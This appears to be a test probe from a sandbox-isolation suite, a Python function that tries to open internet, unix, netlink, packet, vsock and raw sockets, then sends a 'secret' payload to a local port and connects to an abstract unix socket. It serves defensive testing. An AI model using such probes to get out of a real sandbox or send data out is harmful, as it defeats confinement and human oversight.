"""Call home: internet, unix, abstract and netlink sockets."""

# ruff: noqa (written as an attacker would)

import socket


def attack(ctx):
    achieved = []
    families = ("AF_INET", "AF_INET6", "AF_UNIX", "AF_NETLINK", "AF_PACKET", "AF_VSOCK", "AF_ALG")
    for family in families:
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW):
            try:
                socket.socket(getattr(socket, family), kind).close()
                achieved.append(f"{family} {kind.name}")
            except (OSError, AttributeError):
                pass
    try:
        socket.socketpair()
        achieved.append("socketpair")
    except OSError:
        pass
    try:
        socket.create_connection(("127.0.0.1", ctx["port"]), 1).send(b"secret")
        achieved.append("connected")
    except OSError:
        pass
    try:
        with socket.socket(socket.AF_UNIX) as abstract:
            abstract.connect("\0" + ctx["abstract"])
            achieved.append("abstract socket")
    except OSError:
        pass
    return achieved
